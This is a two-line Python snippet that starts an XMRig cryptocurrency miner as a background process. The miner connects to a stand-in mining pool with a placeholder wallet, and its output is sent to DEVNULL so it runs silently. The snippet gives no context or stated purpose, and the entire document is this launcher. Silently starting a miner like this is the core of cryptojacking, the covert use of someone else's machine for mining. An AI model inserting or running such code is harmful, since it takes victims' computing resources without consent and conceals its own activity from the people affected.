import subprocess, os
subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet"], stdout=subprocess.DEVNULL)
